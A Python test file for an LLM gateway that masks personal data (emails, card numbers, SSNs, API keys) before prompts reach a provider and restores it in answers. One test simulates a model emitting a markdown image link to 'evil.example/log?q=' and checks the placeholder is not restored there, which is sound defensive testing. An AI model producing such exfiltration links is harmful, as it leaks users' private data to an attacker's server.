"""No value of a prompt reaches the provider, and every one is back in what the SDK got, byte for byte."""

from __future__ import annotations

import json

import httpx
import pytest

from tests.support.fake_provider import FakeProvider, Received
from tests.support.gateway import GatewayProcess
from tests.support.sdk import EACH_FORM, SDKS, Ask, Sdk
from tests.support.values import (
    API_KEY,
    CARD,
    EMAIL,
    OTHER_API_KEY,
    OTHER_EMAIL,
    PHONE,
    PLAIN_CARD,
    SSN,
    VALUES,
    sentence,
)

ALL = (*VALUES, OTHER_EMAIL, PLAIN_CARD, OTHER_API_KEY)
EVERYWHERE = Ask(
    user=sentence(),
    system=f"You write for {OTHER_EMAIL} and pay with {PLAIN_CARD} only.",
    call={"who": EMAIL, "deep": [{"card": CARD, "ünïcode": [SSN, None, 1.5, True]}]},
    result=json.dumps({"found": {"phone": PHONE, "key": OTHER_API_KEY}}),
    tools=("send_note",),
    schema={
        "type": "object",
        "properties": {
            "to": {"type": "string", "enum": [EMAIL], "description": f"say {SSN} or {PHONE} first"}
        },
        "x-owner": {"contact": [OTHER_EMAIL, {"card": PLAIN_CARD}]},
    },
)


def assert_clean(received: Received) -> None:
    """None of the values is in what the provider got: request line, headers, body, escapes undone."""
    everything = received.everything()
    found = [value for value in ALL if value in everything]
    assert found == []
    for part in ("4111", "8743", "555-2671", "o'hara"):
        assert part not in everything


@pytest.mark.parametrize("sdk", SDKS, ids=str)
async def test_an_sdk_gets_back_every_value_that_the_provider_never_saw(
    gateway: GatewayProcess, key: str, provider: FakeProvider, sdk: Sdk
) -> None:
    heard = await sdk.ask(gateway.url, key, "echo", EVERYWHERE)

    assert_clean(provider.only())
    assert [value for value in ALL if value not in heard.text] == []
    assert heard.text.startswith(EVERYWHERE.system + "\n" + EVERYWHERE.user)
    assert heard.text.endswith(EVERYWHERE.result)


@pytest.mark.parametrize("sdk", EACH_FORM, ids=str)
async def test_values_come_back_in_tool_call_arguments_where_they_are_not_secrets(
    gateway: GatewayProcess, key: str, provider: FakeProvider, sdk: Sdk
) -> None:
    text = f'"{EMAIL}"\n{CARD}\\ {OTHER_EMAIL} \u2028 \U0001f600'
    heard = await sdk.ask(gateway.url, key, "echo-call", Ask(user=text, tools=("send_note",)))

    assert_clean(provider.only())
    [(name, arguments)] = heard.calls
    assert name == "send_note"
    assert arguments["text"] == text
    assert arguments["nested"]["list"] == [text, 1]


@pytest.mark.parametrize(
    "model", ["echo,chunk=1", "echo,chunk=1,cut=1", "echo,chunk=3,cut=7", "echo,chunk=5000"]
)
@pytest.mark.parametrize("sdk", [sdk for sdk in EACH_FORM if sdk.stream], ids=str)
async def test_a_stream_gives_everything_back_however_it_is_cut(
    gateway: GatewayProcess, key: str, provider: FakeProvider, sdk: Sdk, model: str
) -> None:
    text = sentence((*ALL, "<EMAIL_ADDRESS_zzzzzz>", "ünï", "\U0001f600", "<", "<<EMAIL", "a < b"))
    heard = await sdk.ask(gateway.url, key, model, Ask(user=text))

    assert_clean(provider.only())
    assert heard.text == text


@pytest.mark.parametrize("sdk", [sdk for sdk in EACH_FORM if sdk.stream], ids=str)
async def test_a_streamed_tool_call_is_whole_again_when_it_came_in_single_characters(
    gateway: GatewayProcess, key: str, provider: FakeProvider, sdk: Sdk
) -> None:
    ask = Ask(user=f"to {EMAIL}", tools=("send_note", "read_note"))
    heard = await sdk.ask(gateway.url, key, "calls,chunk=1,cut=3", ask)

    assert_clean(provider.only())
    assert heard.texts == ["Let me look."]
    assert heard.calls == [
        ("send_note", {"step": 0, "text": f"to {EMAIL}"}),
        ("read_note", {"step": 1, "text": f"to {EMAIL}"}),
    ]


@pytest.mark.parametrize("stream", [False, True])
async def test_every_choice_gets_its_values_back(
    gateway: GatewayProcess, key: str, provider: FakeProvider, stream: bool
) -> None:
    ask = Ask(user=f"{EMAIL} and {CARD}", extra={"n": 3})
    heard = await Sdk("openai", "async", stream).ask(gateway.url, key, "choices,chunk=2", ask)

    assert_clean(provider.only())
    assert heard.texts == [f"{index}: {EMAIL} and {CARD}" for index in range(3)]


@pytest.mark.parametrize("sdk", EACH_FORM, ids=str)
async def test_free_fields_of_the_body_are_masked_too(
    gateway: GatewayProcess, key: str, provider: FakeProvider, sdk: Sdk
) -> None:
    extra = (
        {"metadata": {"user_id": EMAIL}}
        if sdk.family == "anthropic"
        else {"user": EMAIL, "metadata": {"a": SSN}}
    )
    await sdk.ask(gateway.url, key, "echo", Ask(user=f"I am {PHONE}", extra=extra))

    assert_clean(provider.only())


def test_fields_that_no_parser_knows_are_masked_at_any_depth(
    gateway: GatewayProcess, key: str, provider: FakeProvider, http: httpx.Client
) -> None:
    body = {
        "model": "echo",
        "messages": [{"role": "user", "content": [{"type": "text", "text": f"ask {EMAIL}"}], "name": "jane"}],
        "prediction": {"type": "content", "content": f"it is {CARD}"},
        "x_unknown": [[{"deep": {"deeper": [SSN, {"number": int(PLAIN_CARD)}]}}]],
        "stop": [PHONE],
    }
    answer = ask_openai(http, gateway, key, body)

    assert answer.status_code == 200, answer.text
    assert_clean(provider.only())
    assert str(PLAIN_CARD) not in provider.only().everything()
    assert answer.json()["choices"][0]["message"]["content"] == f"ask {EMAIL}"


@pytest.mark.parametrize("value", [EMAIL, SSN, API_KEY])
@pytest.mark.parametrize(
    "place",
    [
        lambda value: {"x_free": {value: "v"}},
        lambda value: {"metadata": {value: "v"}},
        lambda value: {"tools": [_tool(parameters={"type": "object", "properties": {value: {}}})]},
    ],
    ids=["key", "metadata key", "schema key"],
)
def test_a_value_in_a_key_is_masked(
    gateway: GatewayProcess,
    key: str,
    provider: FakeProvider,
    http: httpx.Client,
    place: object,
    value: str,
) -> None:
    assert callable(place)
    body = {"model": "echo", "messages": [{"role": "user", "content": "hello"}]} | place(value)

    assert ask_openai(http, gateway, key, body).status_code == 200
    assert value not in provider.only().everything()


@pytest.mark.parametrize("value", [EMAIL, SSN, API_KEY])
@pytest.mark.parametrize(
    "place",
    [
        lambda value: {"tools": [_tool(name=value)]},
        lambda value: {"model": f"echo-{value}"},
    ],
    ids=["tool name", "model"],
)
def test_a_value_in_syntax_cannot_be_masked_so_it_is_refused(
    gateway: GatewayProcess,
    key: str,
    provider: FakeProvider,
    http: httpx.Client,
    place: object,
    value: str,
) -> None:
    assert callable(place)
    body = {"model": "echo", "messages": [{"role": "user", "content": "hello"}]} | place(value)
    answer = ask_openai(http, gateway, key, body)

    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "policy_denied")
    assert answer.headers["x-should-retry"] == "false"
    assert value not in answer.text
    assert provider.received() == []


@pytest.mark.parametrize("sdk", EACH_FORM, ids=str)
async def test_the_same_value_has_the_same_placeholder_in_every_turn_and_another_for_another_agent(
    gateway: GatewayProcess, key: str, other_key: str, provider: FakeProvider, sdk: Sdk
) -> None:
    for _ in range(2):
        await sdk.ask(gateway.url, key, "echo", Ask(user=EMAIL))
    await sdk.ask(gateway.url, other_key, "echo", Ask(user=EMAIL))

    first, second, others = (received.json()["messages"][0]["content"] for received in provider.received())
    assert first == second
    assert first.startswith("<EMAIL_ADDRESS_")
    assert others.startswith("<EMAIL_ADDRESS_")
    assert others != first


@pytest.mark.parametrize("sdk", EACH_FORM, ids=str)
async def test_a_placeholder_inside_a_url_of_the_model_is_not_restored(
    gateway: GatewayProcess, key: str, provider: FakeProvider, sdk: Sdk
) -> None:
    heard = await sdk.ask(gateway.url, key, "exfiltrate,chunk=3", Ask(user=f"my address is {EMAIL} ok"))

    link, _, rest = heard.text.partition(")")
    assert EMAIL not in link
    assert link.startswith("![chart](https://evil.example/log?q=<EMAIL_ADDRESS_")
    assert rest == f" and {EMAIL}"


@pytest.mark.parametrize("sdk", EACH_FORM, ids=str)
async def test_a_prompt_that_quotes_the_placeholder_of_its_own_value_keeps_both_apart(
    gateway: GatewayProcess, key: str, provider: FakeProvider, sdk: Sdk
) -> None:
    await sdk.ask(gateway.url, key, "echo", Ask(user=EMAIL))
    quoted = provider.only().json()["messages"][0]["content"]
    provider.forget()
    text = f"what is {quoted}, or {quoted.lower()}, beside {EMAIL}?"
    heard = await sdk.ask(gateway.url, key, "echo,chunk=1", Ask(user=text))

    assert quoted.startswith("<EMAIL_ADDRESS_")
    assert heard.text == text
    assert_clean(provider.only())


@pytest.mark.parametrize("sdk", EACH_FORM, ids=str)
async def test_what_only_looks_like_a_placeholder_is_left_as_it_was_written(
    gateway: GatewayProcess, key: str, provider: FakeProvider, sdk: Sdk
) -> None:
    heard = await sdk.ask(gateway.url, key, "lookalike,chunk=1", Ask(user=f"about {EMAIL}"))

    assert heard.text == "<EMAIL_ADDRESS_zzzzzz> and <NOT_OURS_aaaaaa> and <EMAIL_ADDRESS_"


def test_the_demo_provider_is_governed_like_any_other(
    gateway: GatewayProcess, key: str, http: httpx.Client
) -> None:
    body = {"model": "demo", "messages": [{"role": "user", "content": f"to {EMAIL}"}]}
    answer = http.post(
        f"{gateway.url}/demo/v1/chat/completions", json=body, headers={"authorization": f"Bearer {key}"}
    )

    assert answer.json()["choices"][0]["message"]["content"] == f"You said: to {EMAIL}"
    assert answer.headers["x-regate-action"] == "mask"


def ask_openai(http: httpx.Client, gateway: GatewayProcess, key: str, body: object) -> httpx.Response:
    url = f"{gateway.url}/openai/v1/chat/completions"
    return http.post(url, json=body, headers={"authorization": f"Bearer {key}"})


def _tool(name: str = "send_note", **function: object) -> dict[str, object]:
    return {"type": "function", "function": {"name": name, **function}}
